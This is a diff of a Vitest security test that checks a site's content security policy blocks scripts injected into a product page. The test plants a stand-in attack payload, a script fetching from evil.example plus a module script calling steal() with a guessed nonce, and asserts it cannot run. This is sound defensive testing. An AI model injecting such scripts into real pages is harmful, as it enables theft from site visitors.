@@ -1,9 +1,8 @@
 // Attacks without a login from one computer: the long and the odd in every part of a request.
 import { createHash } from 'node:crypto'
-import type { RouterContext } from 'react-router'
+import { createElement, Fragment, type FunctionComponent } from 'react'
 import { parse } from 'node-html-parser'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
-import type { PageContext } from '#web/site/page-context.ts'
 import { builtSite } from '#http/pages'
 import { type Market, openMarket } from '#testing/market'
 import { rawGet } from './raw-request.ts'
@@ -67,26 +66,19 @@ test('an address that someone makes up leaves no stack trace on the console', as
 test('a script that slips into a page with someone’s text may not run', async () => {
   const site = await builtSite()
   const build = await site.load()
-  const render = build.entry.module.default
-  const { pageContext } = build.entry.module as unknown as {
-    pageContext: RouterContext<PageContext>
-  }
-  const planted = `<script>fetch('https://evil.example')</script><script type="module" nonce="guess">steal()</script>`
-  const entry = {
-    ...build.entry,
-    module: {
-      ...build.entry.module,
-      default: async (...given: Parameters<typeof render>) => {
-        const response = (await render(...given)) as Response
-        const context = given[4].get(pageContext)
-        context.html = context.html?.map((piece) =>
-          typeof piece === 'string' ? piece.replace('<main', `${planted}<main`) : piece,
-        )
-        return response
-      },
-    },
-  }
-  await using holed = await openMarket({}, { ...site, load: async () => ({ ...build, entry }) })
+  const route = build.routes['pages/phones']!
+  const Phones = route.module.default as FunctionComponent
+  const planted = '<script>fetch(‘https://evil.example’)</script><script type="module" nonce="guess">steal()</script>'
+  const PhonesWithHole = (given: object) =>
+    createElement(
+      Fragment,
+      null,
+      createElement('script', null, 'fetch(‘https://evil.example’)'),
+      createElement('script', { type: 'module', nonce: 'guess' }, 'steal()'),
+      createElement(Phones, given),
+    )
+  const routes = { ...build.routes, [route.id]: { ...route, module: { ...route.module, default: PhonesWithHole } } }
+  await using holed = await openMarket({}, { ...site, load: async () => ({ ...build, routes }) })
   const response = await holed.visitor().request('/phones')
   const html = await response.text()
   expect(html).toContain(planted)
@@ -97,7 +89,7 @@ test('a script that slips into a page with someone’s text may not run', async 
     .filter((script) => script.getAttribute('type') !== 'application/ld+json')
   const mayRun = scripts.filter(({ rawText }) => allowed.has(createHash('sha256').update(rawText).digest('base64')))
   const others = scripts.filter((script) => !mayRun.includes(script)).map(({ rawText }) => rawText)
-  expect(others).toEqual([`fetch('https://evil.example')`, 'steal()'])
+  expect(others).toEqual(['fetch(‘https://evil.example’)', 'steal()'])
   expect(mayRun.length).toBeGreaterThanOrEqual(4)
   expect(allowed.size).toBe(mayRun.length)
   expect(policy).not.toContain('unsafe')
